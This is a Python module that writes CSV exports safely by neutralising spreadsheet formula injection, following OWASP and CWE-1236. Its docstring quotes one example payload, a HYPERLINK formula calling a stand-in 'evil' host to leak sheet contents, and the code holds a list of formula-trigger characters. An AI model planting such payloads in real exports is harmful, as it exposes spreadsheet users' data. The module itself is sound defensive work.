"""The one CSV writer of Carebridge: every CSV it writes (`carebridge export`, `carebridge stats
--csv`) goes through `safe_writer`, so customer text can never become a spreadsheet formula.

Excel, LibreOffice Calc and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a
formula (`=HYPERLINK("http://evil","x")` calls out with the sheet's contents), and also one that
starts with a tab, carriage return or line feed followed by one. Following OWASP's "CSV Injection"
(https://owasp.org/www-community/attacks/CSV_Injection):

- a text cell that starts with one of those characters gets a leading single quote, which the
  spreadsheets take as "this is text" (CWE-1236 gives the same fix);
- every text cell is wrapped in double quotes and its double quotes doubled (RFC 4180, and
  `csv.QUOTE_NONNUMERIC`), so neither a separator (`,` or, in Italian or German Excel, `;`) nor a
  quote nor a line break inside customer text can start a new cell whose first character would
  escape the check above.

Only text is neutralised: an int or a float (a negative figure, say) is written as the number it
is, unquoted, and stays a number in the sheet. A string that merely looks like a number ("-3")
could be anything a customer typed, so it is treated as text.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Protocol

# OWASP's list: =, +, -, @, tab (0x09), carriage return (0x0D) and, since 2025, line feed (0x0A).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
TEXT_MARK = "'"


class _Writable(Protocol):
    def write(self, text: str, /) -> object: ...


def neutralised(value: object) -> object:
    """The value as it may go in a cell: text that a spreadsheet would run as a formula gets a
    leading `'`; numbers, None and any other text are returned as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return TEXT_MARK + value
    return value


class SafeCsvWriter:
    """`csv.writer` with every cell neutralised and every text cell quoted."""

    def __init__(self, out: _Writable) -> None:
        # QUOTE_NONNUMERIC quotes everything but int and float: None becomes "" (an empty cell).
        self._writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([neutralised(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(out: _Writable) -> SafeCsvWriter:
    """The writer for every CSV Carebridge writes (a file opened with `newline=""`, a StringIO,
    standard output)."""
    return SafeCsvWriter(out)
